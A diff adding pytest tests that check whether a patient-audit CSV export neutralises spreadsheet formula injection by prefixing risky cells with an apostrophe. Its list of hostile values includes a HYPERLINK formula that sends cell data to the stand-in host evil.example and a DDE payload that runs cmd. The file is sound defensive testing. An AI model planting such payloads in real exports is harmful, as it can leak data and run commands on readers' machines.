@@ -1,0 +1,35 @@
+"""The audit CSV shows every value as text in a spreadsheet (issue 11, finding 5): no formula injection."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from seilocal.store.versions import VersionStore, audit_csv
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+           "\tx", "\r=1"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_values_that_would_start_a_formula_are_written_as_text(store, value):
+    stored = store.forms.create()
+    store.forms.save_edit(stored, "patient.cpr", "0101801233")
+    store.forms.save_edit(stored, "patient.name", value)
+    rows = VersionStore(store.db, store.forms).patient_audit("0101801233")
+    table = list(csv.reader(io.StringIO(audit_csv(rows).decode("utf-8-sig")), delimiter=";"))
+    names = [r for r in table if r[4] == "patient.name"]
+    assert names and names[0][6] == "'" + value
+    for row in table[1:]:  # and no cell of any row starts a formula
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+
+
+def test_ordinary_values_are_unchanged(store):
+    stored = store.forms.create()
+    store.forms.save_edit(stored, "patient.cpr", "0101801233")
+    store.forms.save_edit(stored, "patient.name", "Anna O'Hara - 2")
+    rows = VersionStore(store.db, store.forms).patient_audit("0101801233")
+    table = list(csv.reader(io.StringIO(audit_csv(rows).decode("utf-8-sig")), delimiter=";"))
+    assert ["patient.name", "", "Anna O'Hara - 2"] in [r[4:] for r in table]
